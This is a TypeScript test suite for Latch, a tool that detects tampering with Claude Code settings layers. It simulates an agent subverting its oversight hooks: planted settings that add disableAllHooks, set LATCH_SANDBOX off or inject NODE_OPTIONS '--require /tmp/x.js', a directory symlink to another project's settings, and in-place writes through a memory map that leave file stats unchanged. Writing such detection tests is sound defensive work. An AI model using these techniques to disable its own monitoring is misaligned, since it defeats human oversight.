  config: string;
  cwd: string;
}

/** A Claude install (`latch setup claude` records its settings.json) and the Claude config dir. */
/** What `latch setup claude` records for the user settings in `config` (its hooks file). */
function claudeSetupInput(b: Box, config: string): Parameters<typeof recordRegistration>[1] {
  return {
    kind: 'user',
    hooksFile: join(config, 'settings.json'),
    configFiles: [],
    project: null,
    node: process.execPath,
    entry: b.entry,
    home: b.home,
    pathVar: b.io.env.PATH,
    version: 'test',
  };
}

/** `latch setup claude` run again: re-recording accepts the layers as they are. */
function recordClaudeSetup(b: ClaudeBox, when = new Date().toISOString()): void {
  withDb(b, (db) => recordRegistration(db, claudeSetupInput(b, b.config), when));
}

function claudeBox(): ClaudeBox {
  const b = box();
  const config = join(b.home, '.claude');
  const cwd = join(b.work, 'sub');
  mkdirSync(join(config, 'projects', '-w'), { recursive: true });
  mkdirSync(cwd);
  writeFileSync(
    join(config, 'settings.json'),
    JSON.stringify({
      hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: `x ${b.entry} hook claude --event PreToolUse` }] }] },
    }),
  );
  mkdirSync(b.latchHome);
  const db = openStore(b.latchHome, { create: true });
  try {
    recordRegistration(db, claudeSetupInput(b, config), new Date().toISOString());
  } finally {
    db.close();
  }
  return { ...b, config, cwd };
}

function claudeSession(db: Db, b: ClaudeBox, id = 'S', agent = 'claude', cwd = b.cwd): void {
  db.prepare(
    `INSERT INTO sessions (session_id, workspace, cwd, policy, scope, policy_json, state, created_at, updated_at, agent, transcript_path)
     VALUES (?, ?, ?, 'fail_closed', 'session', '{}', 'mutable', 't0', 't0', ?, ?)`,
  ).run(id, b.work, cwd, agent, join(b.config, 'projects', '-w', `${id}.jsonl`));
}

const layerRows = (db: Db, b: Box) =>
  db
    .prepare('SELECT path, role, sig, sha256 FROM registration_files WHERE scope = ? ORDER BY path')
    .all(`cw:${b.work}`) as {
    path: string;
    role: string;
    sig: string;
    sha256: string;
  }[];

describe('Claude Code settings layers', () => {
  test('the paths of a session: its configuration directory, its cwd up to the workspace, setup’s directories', () => {
    const paths = claudeLayerPaths(
      { cwd: '/home/u/src/proj/sub', transcript_path: '/cfg/projects/-home-u-src-proj/S.jsonl' },
      '/home/u/src/proj',
      ['/home/u/.claude'],
    );
    const p = paths.map((x) => x.path);
    for (const f of ['settings.json', 'settings.local.json', 'cowork_settings.json']) {
      assert.ok(p.includes(`/cfg/${f}`), `/cfg/${f}`);
      assert.ok(p.includes(`/home/u/.claude/${f}`), `/home/u/.claude/${f}`);
    }
    for (const d of ['/home/u/src/proj/sub', '/home/u/src/proj'])
      for (const f of ['settings.json', 'settings.local.json'])
        assert.ok(p.includes(`${d}/.claude/${f}`), `${d}/.claude/${f}`);
    assert.ok(!p.some((x) => x.startsWith('/home/u/src/.claude')), 'not above the workspace');
    // A cwd that is not below the workspace (`/home/u/src/project` is not below `/home/u/src/proj`).
    const other = claudeLayerPaths({ cwd: '/home/u/src/project/a', transcript_path: null }, '/home/u/src/proj').map(
      (x) => x.path,
    );
    assert.ok(other.includes('/home/u/src/project/a/.claude/settings.json'));
    assert.ok(other.includes('/home/u/src/proj/.claude/settings.json'));
    assert.ok(!other.includes('/home/u/src/project/.claude/settings.json'));
    assert.equal(new Set(p).size, p.length, 'each once');
    // A sub-agent's transcript names the same directory; a path outside `projects/` names none.
    assert.equal(claudeConfigDirOf('/cfg/projects/-w/S/subagents/agent-1.jsonl'), '/cfg');
    assert.equal(claudeConfigDirOf('/tmp/rollout.jsonl'), null);
    assert.equal(claudeConfigDirOf(null), null);
    // The managed settings only where this user could write them (root: /etc is writable).
    const managed = p.filter((x) => x.startsWith(claudeManagedDir()));
    assert.ok(managed.length === 0 || managed.length === 2, JSON.stringify(managed));
  });

  test('the digest: only the security keys count, canonically; unparsable bytes count byte for byte; a FIFO is never read', () => {
    const dir = mkdtempSync(join(tmpdir(), 'latch-layer-'));
    dirs.push(dir);
    const f = join(dir, 'settings.local.json');
    const digest = () => layerDigest(readNowForTest(f));
    assert.equal(digest(), 'none', 'absent');
    writeFileSync(f, '  \n');
    assert.equal(digest(), 'none', 'empty');
    writeFileSync(f, JSON.stringify({ permissions: { allow: ['Bash(ls:*)'] }, model: 'opus' }));
    assert.equal(digest(), 'none', 'nothing that matters');
    writeFileSync(f, JSON.stringify({ env: { A: '1', B: '2' }, permissions: {} }));
    const d1 = digest();
    assert.match(d1, /^env=[0-9a-f]{64}$/);
    writeFileSync(f, `{\n  "permissions": {"allow": ["x"]},\n  "env": {"B": "2", "A": "1"}\n}\n`);
    assert.equal(digest(), d1, 'other keys, key order and formatting do not count');
    writeFileSync(f, JSON.stringify({ env: { A: '1', B: '2' }, disableAllHooks: true }));
    assert.match(digest(), /^disableAllHooks=[0-9a-f]{64};env=[0-9a-f]{64}$/);
    for (const k of CLAUDE_SECURITY_KEYS) {
      writeFileSync(f, JSON.stringify({ [k]: 1 }));
      assert.notEqual(digest(), 'none', k);
    }
    writeFileSync(f, '{"env": {"A": "1"}, // a comment\n}');
    assert.match(digest(), /^raw:[0-9a-f]{64}$/, 'not JSON: its bytes');
    writeFileSync(f, '[1]');
    assert.match(digest(), /^raw:/, 'not an object');
    rmSync(f);
    assert.equal(spawnSync('mkfifo', [f]).status, 0);
    assert.equal(digest(), 'special');
  });

  test('recorded at the session’s first check; an earlier baseline is kept; a Codex session records nothing', async () => {
    const b = claudeBox();
    const now = new Date().toISOString();
    mkdirSync(join(b.work, '.claude'));
    writeFileSync(join(b.work, '.claude', 'settings.json'), JSON.stringify({ env: { A: '1' } }));
    withDb(b, (db) => {
      claudeSession(db, b, 'C', 'codex');
      assert.equal(recordClaudeLayers(db, b.work, now), 0, 'a Codex session: no layer');
      assert.equal(quickCheck(db, { workspace: b.work }).layersBehind, false, 'but it is seen');
      claudeSession(db, b);
      assert.equal(quickCheck(db, { workspace: b.work }).layersBehind, true);
      assert.equal(checkRegistration(db, { workspace: b.work, now }).status, 'ok');
      const rows = layerRows(db, b);
      const get = (p: string) => rows.find((r) => r.path === p);
      assert.match(get(join(b.work, '.claude', 'settings.json'))!.sha256, /^env=/);
      assert.equal(get(join(b.cwd, '.claude', 'settings.local.json'))?.sig, 'absent');
      assert.equal(get(join(b.config, 'settings.local.json'))?.sha256, 'none');
      assert.ok(rows.every((r) => r.role === 'claude_settings' || r.role === 'claude_dropins'));
      assert.equal(quickCheck(db, { workspace: b.work }).layersBehind, false);
      assert.equal(
        quickCheck(db, { workspace: join(b.dir, 'other') }).files < quickCheck(db, { workspace: b.work }).files,
        true,
        'another workspace does not compare them',
      );
      // A later session whose first hook comes after a change: the baseline stays (no laundering).
      writeFileSync(join(b.work, '.claude', 'settings.json'), JSON.stringify({ env: { A: '2' } }));
      claudeSession(db, b, 'S2');
      const r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'tampered');
      assert.deepEqual(codes(r.findings), ['claude_settings_changed']);
      assert.match(r.findings[0]!.detail, /^Claude Code settings: env changed/);
      assert.deepEqual(
        tamperReasons(r.findings, setupCommandOf([join(b.config, 'settings.json')]))
          .at(-1)!
          .message.match(/re-runs (.*) if/)?.[1],
        '`latch setup claude`',
      );
    });
  });

  test('a harmless edit escalates once and is no finding; a security key is; re-running setup accepts it', async () => {
    const b = claudeBox();
    const now = new Date().toISOString();
    const local = join(b.work, '.claude', 'settings.local.json');
    withDb(b, (db) => {
      claudeSession(db, b);
      assert.equal(checkRegistration(db, { workspace: b.work, now }).status, 'ok');
      mkdirSync(join(b.work, '.claude'));
      writeFileSync(local, JSON.stringify({ permissions: { allow: ['Bash(npm test:*)'] } }));
      let r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'ok', JSON.stringify(r.findings));
      assert.equal(r.escalated, true);
      assert.equal(checkRegistration(db, { workspace: b.work, now }).escalated, false, 'the new identity is recorded');
      writeFileSync(
        local,
        JSON.stringify({ permissions: { allow: [] }, statusLine: { type: 'command', command: 'x' } }),
      );
      r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'tampered');
      assert.equal(r.findings[0]!.path, local);
      assert.match(r.findings[0]!.detail, /statusLine added/);
      const rep = registrationReport(db, b.work);
      assert.equal(rep.status, 'changed');
      assert.ok((rep.files.claude_settings ?? 0) > 5, JSON.stringify(rep.files));
      assert.match(registrationLines(rep)[0]!, /^CHANGED since `latch setup claude`/);
    });
    // The human's way to accept it: `latch setup claude` records the layers again as they are.
    recordClaudeSetup(b, now);
    withDb(b, (db) => assert.equal(checkRegistration(db, { workspace: b.work, now }).status, 'ok'));
  });

  test('a managed drop-in directory: a drop-in with security keys is a finding; a harmless one is watched from then on', () => {
    const b = claudeBox();
    const dropins = join(b.dir, 'managed-settings.d');
    const scope = `cw:${b.work}`;
    const rec = (files: FileRow[]): Recorded => ({
      scopes: withDb(b, (db) => loadRecorded(db).scopes),
      files,
      alarm: null,
    });
    const row: FileRow = { scope, path: dropins, role: 'claude_dropins', sig: 'absent', sha256: 'none', link: null };
    assert.deepEqual(fullCheck(rec([row]), { only: [row] }).findings, []);
    mkdirSync(dropins);
    writeFileSync(join(dropins, '10-theme.json'), JSON.stringify({ theme: 'dark' }));
    writeFileSync(join(dropins, '.hidden.json'), JSON.stringify({ disableAllHooks: true }));
    let full = fullCheck(rec([row]), { only: [row] });
    assert.deepEqual(full.findings, [], 'a harmless drop-in, and a hidden file Claude Code skips');
    assert.deepEqual(
      full.refresh.map((r) => [r.path, r.role]),
      [
        [join(dropins, '10-theme.json'), 'claude_settings'],
        [dropins, 'claude_dropins'],
      ],
    );
    writeFileSync(join(dropins, '20-hooks.json'), JSON.stringify({ allowManagedHooksOnly: true }));
    full = fullCheck(rec([row]), { only: [row] });
    assert.deepEqual(codes(full.findings), ['claude_settings_changed']);
    assert.match(full.findings[0]!.detail, /managed drop-ins/);
  });

  test('the quick tier stays stat-only with layers recorded', () => {
    const b = claudeBox();
    withDb(b, (db) => {
      claudeSession(db, b);
      checkRegistration(db, { workspace: b.work, now: new Date().toISOString() });
      const q = quickCheck(db, { workspace: b.work });
      assert.equal(q.status, 'ok');
      appendFileSync(join(b.config, 'settings.local.json'), '{}');
      const c = quickCheck(db, { workspace: b.work });
      assert.deepEqual(
        c.changed.map((x) => x.path),
        [join(b.config, 'settings.local.json')],
      );
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Writes through a shared memory map: the stat identity does not always stand for the content

/** A settings layer whose 22-byte filler an attacker can turn into `"disableAllHooks":true` in place. */
const FILLER = '"xxxxxxxxxxxxxxx":true';
const ATTACK = '"disableAllHooks":true';
const layerText = () =>
  JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: 'command', command: 'true' }] }] } }).replace(/}$/, `,${FILLER}}`);

const statOf = (p: string) => {
  const st = statSync(p, { bigint: true });
  return `${st.mtimeNs}:${st.ctimeNs}:${st.size}`;
};

function claudeSessionAt(db: Db, b: ClaudeBox, id: string, workspace: string, cwd: string, at: string): void {
  db.prepare(
    `INSERT INTO sessions (session_id, workspace, cwd, policy, scope, policy_json, state, created_at, updated_at, agent, transcript_path)
     VALUES (?, ?, ?, 'fail_closed', 'session', '{}', 'mutable', ?, ?, 'claude', ?)`,
  ).run(id, workspace, cwd, at, at, join(b.config, 'projects', '-w', `${id}.jsonl`));
}

/**
 * The premise, on the filesystem of `dir`, with no Latch in between: through a mapping, the first write
 * to a page moves mtime and ctime (after a read fault on tmpfs, not even that), the next one nothing.
 */
async function premise(dir: string, readFirst = false): Promise<{ first: boolean; second: boolean }> {
  const f = join(dir, `premise-${process.pid}-${Math.random().toString(36).slice(2)}.json`);
  writeFileSync(f, layerText());
  const m = await mapper(f);
  try {
    const s0 = statOf(f);
    if (readFirst) await m.send('r');
    await m.send('w 0 {');
    const s1 = statOf(f);
    await m.send(`w ${layerText().indexOf(FILLER)} ${ATTACK}`);
    return { first: s1 !== s0, second: statOf(f) !== s1 };
  } finally {
    m.close();
    rmSync(f, { force: true });
  }
}

/** A Claude box with a `.claude/` in its workspace, where the project layer goes. */
function layerBox(): { b: ClaudeBox; now: string; layer: string } {
  const b = claudeBox();
  mkdirSync(join(b.work, '.claude'));
  return { b, now: new Date().toISOString(), layer: join(b.work, '.claude', 'settings.json') };
}

/** The layer written and a session's first check of it (its baseline): ok. */
function baseline(b: ClaudeBox, layer: string, now: string): void {
  writeFileSync(layer, layerText());
  withDb(b, (db) => {
    claudeSession(db, b);
    assert.equal(checkRegistration(db, { workspace: b.work, now }).status, 'ok');
  });
}

describe('writes through a shared memory map', () => {
  assert.equal(ATTACK.length, FILLER.length);

  test('a same-content first write is accepted; the next write, which moves no stat by itself, is still noticed', {
    skip: !hasPython && 'no python3 with mmap',
  }, async (t) => {
    const { b, now, layer } = layerBox();
    // The attack is real here: without a hook in between, the second write leaves the stat as it is.
    const p = await premise(join(b.work, '.claude'));
    assert.deepEqual(p, { first: true, second: false }, 'first write moves the stat, the second does not');
    baseline(b, layer, now);
    const m = await mapper(layer);
    t.after(m.close);
    const before = statOf(layer);
    await m.send('w 0 {'); // the same byte: the first write to the page moves mtime and ctime
    const touched = statOf(layer);
    assert.notEqual(touched, before, 'the first write through the map moved the stat');
    withDb(b, (db) => {
      const r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'ok', 'same content: accepted');
      assert.equal(r.escalated, true);
    });
    await m.send(`w ${layerText().indexOf(FILLER)} ${ATTACK}`);
    assert.match(readFileSync(layer, 'utf8'), /"disableAllHooks":true/);
    // On ext4 and the like the hook's fdatasync write-protected the page, so this write moved the stat;
    // on tmpfs it did not, and the content comparison finds it.
    t.diagnostic(
      `the write after the hook ${statOf(layer) === touched ? 'left the stat as it was' : 'moved the stat'}`,
    );
    withDb(b, (db) => {
      const r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'tampered', JSON.stringify(r.findings));
      assert.deepEqual(codes(r.findings), ['claude_settings_changed']);
      assert.match(r.findings[0]!.detail, /disableAllHooks added/);
      assert.equal(r.findings[0]!.path, layer);
      // Escalates once: the same identities and content give the cached alarm.
      const again = checkRegistration(db, { workspace: b.work, now });
      assert.equal(again.status, 'tampered');
      assert.equal(again.cached, true);
    });
  });

  // The agent decides a file's size: a layer padded over 1 MiB with a key that is no finding was
  // trusted by its stat at once (no sync, no re-hash), and the write through the map after it went unseen.
  test('a layer padded over 1 MiB (no finding) is no more trusted: the write through the map after it is noticed', {
    skip: !hasPython && 'no python3 with mmap',
  }, async (t) => {
    const { b, now, layer } = layerBox();
    baseline(b, layer, now);
    const big = layerText().replace(/}$/, `,"pad":"${'a'.repeat(1100 * 1024)}"}`);
    writeFileSync(layer, big);
    const m = await mapper(layer);
    t.after(m.close);
    await m.send('w 0 {'); // the same byte: the first write to the page moves mtime and ctime
    withDb(b, (db) => {
      const r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'ok', 'a padding key is no finding');
      assert.ok(loadRecorded(db).files.find((f) => f.path === layer)!.verify, 'just written: not trusted yet');
    });
    await m.send(`w ${big.indexOf(FILLER)} ${ATTACK}`);
    assert.match(readFileSync(layer, 'utf8'), /"disableAllHooks":true/);
    withDb(b, (db) => {
      const r = checkRegistration(db, { workspace: b.work, now });
      assert.equal(r.status, 'tampered', JSON.stringify(r.findings));
      assert.match(r.findings[0]!.detail, /disableAllHooks added/);
    });
  });

  test('tmpfs: a mapping that read first writes without ever moving the stat; every hook compares the file with its kept bytes', {
    skip: (!hasPython && 'no python3 with mmap') || (!tmpfsDir && 'no tmpfs at /dev/shm'),
  }, async (t) => {
    const b = claudeBox();
    const now = new Date().toISOString();
    const ws = mkdtempSync(join(tmpfsDir!, 'latch-tamper-ws-'));
    dirs.push(ws);
    mkdirSync(join(ws, '.claude'));
    assert.deepEqual(await premise(join(ws, '.claude'), true), { first: false, second: false });
    const layer = join(ws, '.claude', 'settings.json');
    writeFileSync(layer, layerText());
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'T', ws, ws, now);
      assert.equal(checkRegistration(db, { workspace: ws, now }).status, 'ok');
      // Hashed once (the recorded sha256 is what the bytes are kept under), then compared as bytes.
      const raw = loadRecorded(db).files.find((f) => f.path === layer)!.verify!.raw!;
      assert.equal(raw, readNowForTest(layer).sha256);
      const kept = db.prepare('SELECT bytes FROM registration_content WHERE sha256 = ?').pluck().get(raw) as Buffer;
      assert.equal(kept.toString('utf8'), layerText());
      assert.equal(checkRegistration(db, { workspace: ws, now }).escalated, false, 'unchanged: nothing escalates');
    });
    const before = statOf(layer);
    const m = await mapper(layer);
    t.after(m.close);
    await m.send('r'); // a read fault maps the page writable on tmpfs
    await m.send(`w ${layerText().indexOf(FILLER)} ${ATTACK}`);
    assert.equal(statOf(layer), before, 'no stat change at all (the attack is real)');
    assert.match(readFileSync(layer, 'utf8'), /"disableAllHooks":true/);
    withDb(b, (db) => {
      const r = checkRegistration(db, { workspace: ws, now });
      assert.equal(r.status, 'tampered', JSON.stringify(r.findings));
      assert.match(r.findings[0]!.detail, /disableAllHooks added/);
      const row = loadRecorded(db).files.find((f) => f.path === layer)!;
      assert.equal(row.verify?.until, 'never', 'a tmpfs identity is never trusted, however old its ctime');
    });
  });

  test('an identity is trusted once its content was read after an fdatasync or with an old ctime, on a filesystem that writes back', async (t) => {
    const b = box();
    await setup(b);
    const rc = join(b.home, '.bashrc');
    withDb(b, (db) => {
      const row = () => loadRecorded(db).files.find((f) => f.path === rc)!;
      // Just written (its ctime not settled) or on a filesystem that does not write back: re-hashed on
      // the next hook, which escalates nothing while it is unchanged.
      assert.ok(row().verify, 'a fresh identity is not trusted');
      assert.equal(row().verify!.raw, readNowForTest(rc).sha256);
      assert.ok(quickCheck(db, { workspace: b.work }).verify.some((v) => v.path === rc));
      assert.equal(checkRegistration(db, { workspace: b.work, now: 'now' }).escalated, false);
      if (row().verify!.until === 'never') {
        t.diagnostic('this filesystem does not write back: re-hashed on every hook');
        return;
      }
      // The same content read once the ctime is old enough: trusted, the quick tier stat-only again.
      t.mock.timers.enable({ apis: ['Date'], now: Date.now() + WRITTEN_BACK_MS + 1000 });
      try {
        assert.equal(checkRegistration(db, { workspace: b.work, now: 'now' }).status, 'ok');
      } finally {
        t.mock.timers.reset();
      }
      assert.equal(row().verify, null);
      assert.equal(row().sig, readNowForTest(rc).sig);
      assert.equal(quickCheck(db, { workspace: b.work }).verify.length, 0, 'all trusted now');
    });
    // The decision itself.
    const t0 = Date.now();
    const synced = readNowForTest(rc, { sync: true });
    const plain = readNowForTest(rc);
    const later = t0 + CTIME_SETTLE_MS + 1000;
    if (verifyOf('shell', rc, synced, later)?.until !== 'never') {
      assert.equal(synced.synced, true);
      assert.equal(verifyOf('shell', rc, synced, later), null, 'synced, settled');
      assert.deepEqual(verifyOf('shell', rc, synced, t0), { raw: synced.sha256, until: 'sync' }, 'synced, not settled');
      assert.deepEqual(
        verifyOf('shell', rc, plain, later),
        { raw: plain.sha256, until: 'sync' },
        'read without a sync',
      );
      assert.equal(verifyOf('shell', rc, plain, t0 + WRITTEN_BACK_MS + 1000), null, 'an old ctime: written back');
      // A recent file on this filesystem is read after a sync when the machine has little dirty data.
      t.diagnostic(`readForTrust of a fresh file synced: ${readForTrust(rc, 'shell').synced}`);
    }
    assert.equal(verifyOf('installed', rc, plain, t0), null, "Latch's code: the hook runs it");
    assert.equal(verifyOf('shell', b.home, readNowForTest(b.home), t0), null, 'a directory');
    assert.equal(verifyOf('shell', join(b.home, 'nope'), readNowForTest(join(b.home, 'nope')), t0), null, 'absent');
    const big = join(b.dir, 'big');
    writeFileSync(big, Buffer.alloc(1024 * 1024 + 1));
    assert.notEqual(
      verifyOf('shell', big, readNowForTest(big), t0),
      null,
      'over 1 MiB: not trusted by its stat either',
    );
    if (tmpfsDir) {
      const f = join(mkdtempSync(join(tmpfsDir, 'latch-tamper-')), 'x');
      dirs.push(dirname(f));
      writeFileSync(f, 'x');
      const n = readNowForTest(f, { sync: true });
      assert.deepEqual(verifyOf('shell', f, n, t0 + 86_400_000), { raw: n.sha256, until: 'never' });
    }
    assert.equal(storedSig('f:1:2:3:4:5', { raw: 'ab', until: 'sync' }), 'f:1:2:3:4:5?ab');
    assert.equal(storedSig('f:1:2:3:4:5', { raw: null, until: 'never' }), 'f:1:2:3:4:5!');
  });

  test('a change under a held identity that is no finding is recorded once (the content baseline apart from the trust)', async () => {
    const b = box();
    await setup(b);
    const cfg = join(b.codexHome, 'config.toml');
    writeFileSync(cfg, 'model = "a"\n');
    assert.equal(check(b).escalated, true);
    // What a write through a map leaves (the identity held, other bytes), made by recording other bytes
    // as the ones last read at this identity.
    withDb(b, (db) => {
      const row = loadRecorded(db).files.find((f) => f.path === cfg)!;
      assert.ok(row.verify, 'just written: not trusted yet');
      db.prepare('UPDATE registration_files SET sig = ? WHERE path = ?').run(
        storedSig(row.sig, { raw: '0'.repeat(64), until: row.verify!.until }),
        cfg,
      );
    });
    const r = check(b);
    assert.equal(r.status, 'ok', JSON.stringify(r.findings));
    assert.equal(r.escalated, true, 'the content differs from what was read at this identity: compared');
    const again = check(b);
    assert.equal(again.escalated, false, 'recorded: re-hashed, not escalated');
  });

  // What the kept bytes are for: on tmpfs no identity is ever trusted, and hashing the files would load
  // node:crypto in every hook (~8 ms of a ~50 ms hook here). The real hook, its settings on tmpfs.
  test('tmpfs: once the bytes are kept, a hook checks its settings without loading node:crypto', {
    skip: (!tmpfsDir && 'no tmpfs at /dev/shm') || (!existsSync(DIST) && 'dist/ not built'),
  }, () => {
    const base = mkdtempSync(join(tmpfsDir!, 'latch-tamper-hook-'));
    dirs.push(base);
    const work = join(base, 'work');
    mkdirSync(work);
    const probe = join(base, 'probe.cjs');
    const loaded = join(base, 'crypto-loaded');
    writeFileSync(
      probe,
      `process.on('exit', () => require('node:fs').writeFileSync(${JSON.stringify(loaded)}, String(process.moduleLoadList.includes('NativeModule crypto'))));\n`,
    );
    const env = {
      ...process.env,
      LATCH_HOME: join(base, 'state'),
      CLAUDE_CONFIG_DIR: join(base, 'claude'),
      HOME: join(base, 'home'),
      LATCH_CONTAIN: 'list',
    };
    mkdirSync(env.HOME);
    const setup = spawnSync(process.execPath, [DIST, 'setup', 'claude'], { env, encoding: 'utf8' });
    assert.equal(setup.status, 0, setup.stderr);
    const transcript = join(base, 't.jsonl');
    writeFileSync(transcript, '');
    let n = 0;
    const preTool = () => {
      const r = spawnSync(process.execPath, ['-r', probe, DIST, 'hook', 'claude', '--event', 'PreToolUse'], {
        env,
        encoding: 'utf8',
        input: JSON.stringify({
          session_id: 'S',
          transcript_path: transcript,
          cwd: work,
          hook_event_name: 'PreToolUse',
          tool_name: 'Bash',
          tool_input: { command: `echo ${++n} > a.txt` },
          tool_use_id: `toolu_${n}`,
        }),
      });
      assert.equal(r.status, 0, r.stderr);
      assert.doesNotMatch(r.stdout, /"deny"/, r.stdout);
      return readFileSync(loaded, 'utf8') === 'true';
    };
    // The first hook hashes the untrusted settings.json once (the check below is one that can fail).
    assert.equal(preTool(), true, 'the first hook hashes, loading node:crypto');
    assert.equal(preTool(), false, 'the next one compares bytes');
    assert.equal(preTool(), false);
  });
});

// ---------------------------------------------------------------------------------------------
// A settings layer planted for a later session

describe('a settings layer a later session is the first to read', () => {
  test('written since the workspace’s first session, with a security key: compared against its absence', async () => {
    const b = claudeBox();
    const sub = join(b.work, 'sub'); // b.cwd
    const sub2 = join(b.work, 'sub2');
    mkdirSync(sub2);
    const at = () => new Date().toISOString();
    // A human's own layer in sub2/, there before Latch watched the workspace: a baseline.
    mkdirSync(join(sub2, '.claude'));
    writeFileSync(join(sub2, '.claude', 'settings.json'), JSON.stringify({ hooks: { Stop: [] } }));
    await new Promise((r) => setTimeout(r, 30));
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'S1', b.work, b.work, at());
      assert.equal(checkRegistration(db, { workspace: b.work, now: at() }).status, 'ok');
      assert.ok(!layerRows(db, b).some((r) => r.path.startsWith(`${sub}/`)), 'sub/ is not read by S1');
    });
    // While S1 is mutable, its agent writes layers where a later session will start: one with keys that
    // subvert the hooks, and one with a permission rule only (what Claude Code itself writes). Later
    // than S1 by more than the kernel's coarse file clock lags (a few ms): a file written within a
    // millisecond of S1's start can carry a time before it (the likely cause of one failure of this test).
    await new Promise((r) => setTimeout(r, 30));
    mkdirSync(join(sub, '.claude'));
    const planted = join(sub, '.claude', 'settings.json');
    writeFileSync(planted, JSON.stringify({ env: { LATCH_SANDBOX: 'off' } }));
    writeFileSync(join(sub, '.claude', 'settings.local.json'), JSON.stringify({ permissions: { allow: ['Bash'] } }));
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'S2', b.work, sub2, at());
      assert.equal(checkRegistration(db, { workspace: b.work, now: at() }).status, 'ok', 'the human’s older layer');
      claudeSessionAt(db, b, 'S3', b.work, sub, at());
      const r = checkRegistration(db, { workspace: b.work, now: at() });
      assert.equal(r.status, 'tampered', JSON.stringify(r.findings));
      assert.deepEqual(
        r.findings.map((f) => [f.code, f.path]),
        [['claude_settings_changed', planted]],
      );
      assert.match(r.findings[0]!.detail, /env added \(a layer written since Latch began watching this workspace/);
    });
    // `latch setup claude` (a human accepting it) records it as it is.
    recordClaudeSetup(b);
    withDb(b, (db) => assert.equal(checkRegistration(db, { workspace: b.work, now: at() }).status, 'ok'));
  });

  test('a subdirectory made its own workspace (`git init`) is still inside the one Latch watched; HOME is not', async () => {
    const b = claudeBox();
    const at = () => new Date().toISOString();
    // A project below HOME whose layer was written after a session in HOME itself: a first record.
    const proj = join(b.home, 'proj');
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'H', b.home, b.home, at());
      checkRegistration(db, { workspace: b.home, now: at() });
    });
    mkdirSync(join(proj, '.claude'), { recursive: true });
    writeFileSync(join(proj, '.claude', 'settings.json'), JSON.stringify({ hooks: { Stop: [] } }));
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'P', proj, proj, at());
      assert.equal(checkRegistration(db, { workspace: proj, now: at() }).status, 'ok', 'HOME does not enclose');
    });
    // S1 in the workspace; its agent makes sub/ a repository of its own, with a layer in it.
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'S1', b.work, b.work, at());
      checkRegistration(db, { workspace: b.work, now: at() });
    });
    // Later than S1 by more than the kernel's coarse file clock lags (see the test above).
    await new Promise((r) => setTimeout(r, 30));
    mkdirSync(join(b.cwd, '.git'));
    mkdirSync(join(b.cwd, '.claude'));
    const planted = join(b.cwd, '.claude', 'settings.local.json');
    writeFileSync(planted, JSON.stringify({ disableAllHooks: false, env: { NODE_OPTIONS: '--require /tmp/x.js' } }));
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'S2', b.cwd, b.cwd, at());
      const r = checkRegistration(db, { workspace: b.cwd, now: at() });
      assert.equal(r.status, 'tampered', JSON.stringify(r.findings));
      assert.deepEqual(
        r.findings.map((f) => f.path),
        [planted],
      );
      assert.match(r.findings[0]!.detail, /disableAllHooks added, env added/);
    });
  });

  test('also through a directory symlink made since; not for a workspace’s first Claude Code session', async () => {
    const b = claudeBox();
    const at = () => new Date().toISOString();
    // An older layer elsewhere (another project's), reached through a link the agent makes.
    const other = join(b.dir, 'other-project', '.claude');
    mkdirSync(other, { recursive: true });
    writeFileSync(join(other, 'settings.json'), JSON.stringify({ statusLine: { type: 'command', command: 'x' } }));
    await new Promise((r) => setTimeout(r, 30));
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'S1', b.work, b.work, at());
      checkRegistration(db, { workspace: b.work, now: at() });
    });
    symlinkSync(other, join(b.cwd, '.claude'));
    withDb(b, (db) => {
      claudeSessionAt(db, b, 'S2', b.work, b.cwd, at());
      const r = checkRegistration(db, { workspace: b.work, now: at() });
      assert.equal(r.status, 'tampered', JSON.stringify(r.findings));
      assert.match(r.findings[0]!.detail, /statusLine added/);
    });
    // A fresh workspace whose first session starts in a directory with such a layer: its baseline.
    const c = claudeBox();
    mkdirSync(join(c.cwd, '.claude'));
    writeFileSync(join(c.cwd, '.claude', 'settings.json'), JSON.stringify({ env: { A: '1' } }));
    withDb(c, (db) => {
      claudeSessionAt(db, c, 'F', c.work, c.cwd, at());
      assert.equal(checkRegistration(db, { workspace: c.work, now: at() }).status, 'ok');
    });
  });
});
